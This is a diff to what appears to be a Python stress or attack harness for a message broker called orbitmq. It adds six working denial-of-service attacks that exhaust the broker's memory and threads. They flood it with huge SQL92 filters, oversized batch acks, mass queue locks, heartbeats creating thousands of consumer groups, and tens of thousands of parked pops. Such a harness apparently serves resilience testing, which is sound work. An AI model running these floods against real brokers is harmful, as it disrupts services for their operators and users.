@@ -6,6 +6,7 @@ was done. It goes on until the process is ended.
 
 from __future__ import annotations
 
+import itertools
 import os
 import selectors
 import socket
@@ -19,10 +20,23 @@ from typing import Any
 
 from hostile.figure import Size
 from orbitmq.codes import RequestCode
+from orbitmq.model.group import ConsumerInfo, Heartbeat
+from orbitmq.model.route import MessageQueue
+from orbitmq.wire.bodies.heartbeat import QueueLock, encode_heartbeat, encode_queue_lock
 from orbitmq.wire.command import Command, encode_command
 from orbitmq.wire.header import encode_header
-from orbitmq.wire.headers import PullMessage, PullSysFlag, SendBatch, SendMessageV2
+from orbitmq.wire.headers import (
+    BatchAckMessages,
+    HeartbeatRequest,
+    LockQueues,
+    PopMessage,
+    PullMessage,
+    PullSysFlag,
+    SendBatch,
+    SendMessageV2,
+)
 from orbitmq.wire.messages.batch import encode_batch
+from orbitmq.wire.pop.batch_acks import BatchAck, encode_batch_acks
 
 MIB = 2**20
 SUSPEND_MS = 30_000
@@ -54,12 +68,28 @@ def _send_fields(topic: str, queue_id: int) -> dict[str, Any]:
     }  # fmt: skip
 
 
-def pull_frame(topic: str, offset: int, *, opaque: int = 1, group: str = "g", suspend_ms: int = 0) -> bytes:
+def request_frame(code: RequestCode, header: object, body: bytes = b"") -> bytes:
+    """Encode a request."""
+    return encode_command(Command(code, 1, ext_fields=encode_header(header), body=body))
+
+
+def pop_frame(group: str, *, poll_ms: int = 0) -> bytes:
+    """Encode a pop."""
+    header = PopMessage(
+        consumer_group=group, topic="t", queue_id=-1, count_max=32, invisible_ms=60_000, poll_ms=poll_ms, init_mode=0
+    )
+    return request_frame(RequestCode.POP_MESSAGE, header)
+
+
+def pull_frame(
+    topic: str, offset: int, *, opaque: int = 1, group: str = "g", suspend_ms: int = 0, sql: str | None = None
+) -> bytes:
     """Encode a pull."""
     header = PullMessage(
         consumer_group=group, topic=topic, queue_id=0, queue_offset=offset, count_max=32, commit_offset=0,
         sys_flag=PullSysFlag.SUBSCRIPTION | (PullSysFlag.SUSPEND if suspend_ms else 0),
-        suspend_timeout_ms=suspend_ms, subscription="*", sub_version=0,
+        suspend_timeout_ms=suspend_ms, subscription=sql or "*", sub_version=0,
+        expression_type="SQL92" if sql else None,
     )  # fmt: skip
     return encode_command(Command(RequestCode.PULL_MESSAGE, opaque, ext_fields=encode_header(header)))
 
@@ -285,6 +315,105 @@ def giant_batches(attacker: Attacker) -> Iterator[None]:
         yield
 
 
+def greedy(attacker: Attacker, frames: Callable[[int], Iterator[bytes]]) -> Iterator[None]:
+    """Send what is dear on many connections, each of which waits for its answer before it sends the next."""
+    wait_for_start()
+
+    def ask(number: int) -> None:
+        with suppress(OSError):
+            peer = attacker.connect()
+            for frame in frames(number):
+                peer.sendall(frame)
+                peer.recv(MIB)
+
+    for number in range(attacker.size.of(20)):
+        threading.Thread(target=ask, args=(number,), daemon=True).start()
+    while True:
+        time.sleep(0.1)
+        yield
+
+
+def new_expressions(attacker: Attacker) -> Iterator[None]:
+    """Pull by ever new SQL92 expressions of 16 KiB."""
+    attacker.fill("t", 1, 10)
+
+    def frames(number: int) -> Iterator[bytes]:
+        for count in itertools.count():
+            terms = " AND ".join(f"a{number}x{count}x{term} = {term}" for term in range(attacker.size.of(700, 1)))
+            yield pull_frame("t", 0, sql=terms[:16_000].rpartition(" AND ")[0])
+
+    yield from greedy(attacker, frames)
+
+
+def batch_acks(attacker: Attacker) -> Iterator[None]:
+    """Acknowledge messages of four thousand checkpoints with each request."""
+    attacker.fill("t", 1, 10)
+
+    def frames(number: int) -> Iterator[bytes]:
+        for count in itertools.count():
+            places = range(count * 1_000_000, count * 1_000_000 + 32 * attacker.size.of(4_000), 32)
+            acks = [BatchAck("g", "t", "0", at, 0, 0, number, 60_000, range(at, at + 32)) for at in places]
+            body = encode_batch_acks("", acks)
+            yield request_frame(RequestCode.BATCH_ACK_MESSAGE, BatchAckMessages(), body)
+
+    yield from greedy(attacker, frames)
+
+
+def many_locks(attacker: Attacker) -> Iterator[None]:
+    """Lock twenty thousand queues with each request."""
+    queues = tuple(MessageQueue("t", "victim", number) for number in range(attacker.size.of(20_000)))
+
+    def frames(number: int) -> Iterator[bytes]:
+        body = encode_queue_lock(QueueLock(group=f"g{number}", client_id=f"c{number}", queues=queues))
+        while True:
+            yield request_frame(RequestCode.LOCK_BATCH_MQ, LockQueues(), body)
+
+    yield from greedy(attacker, frames)
+
+
+def hundreds_of_groups(attacker: Attacker) -> Iterator[None]:
+    """Make a hundred thousand groups, in heartbeats of hundreds."""
+    attacker.fill("t", 1, 10)
+
+    def frames(number: int) -> Iterator[bytes]:
+        for count in itertools.count():
+            groups = range(count * 250, count * 250 + attacker.size.of(250))
+            consumers = tuple(ConsumerInfo(group=f"group-{number}-{one}") for one in groups)
+            body = encode_heartbeat(Heartbeat(client_id=f"c{number}", consumers=consumers))
+            yield request_frame(RequestCode.HEART_BEAT, HeartbeatRequest(), body)
+
+    yield from greedy(attacker, frames)
+
+
+def popping_groups(attacker: Attacker) -> Iterator[None]:
+    """Pop as ever new groups."""
+    attacker.fill("t", 1, 10)
+
+    def frames(number: int) -> Iterator[bytes]:
+        for count in itertools.count():
+            yield pop_frame(f"group-{number}-{count}")
+
+    yield from greedy(attacker, frames)
+
+
+def parked_pops(attacker: Attacker) -> Iterator[None]:
+    """Let sixty thousand pops wait, and send messages that wake them."""
+    attacker.fill("t", 1, 10)
+    peers = [attacker.connect() for _ in range(20)]
+    for peer in peers:
+        threading.Thread(target=_read_all, args=(peer,), daemon=True).start()
+    attacker.ask(pop_frame("g"))
+    wait_for_start()
+    while True:
+        frames = pop_frame("g", poll_ms=SUSPEND_MS) * _AT_ONCE
+        for number in range(attacker.size.of(60_000) // _AT_ONCE):
+            peers[number % len(peers)].sendall(frames)
+        for _ in range(100):
+            attacker.ask(send_frame("t"))
+            time.sleep(0.05)
+        yield
+
+
 ATTACKS: dict[str, Callable[[Attacker], Iterator[None]]] = {
     "idle-connections": idle_connections,
     "parked-and-large": parked_and_large,
@@ -297,6 +426,12 @@ ATTACKS: dict[str, Callable[[Attacker], Iterator[None]]] = {
     "new-groups": new_groups,
     "new-topics": new_topics,
     "giant-batches": giant_batches,
+    "new-expressions": new_expressions,
+    "batch-acks": batch_acks,
+    "many-locks": many_locks,
+    "hundreds-of-groups": hundreds_of_groups,
+    "popping-groups": popping_groups,
+    "parked-pops": parked_pops,
 }
 
 
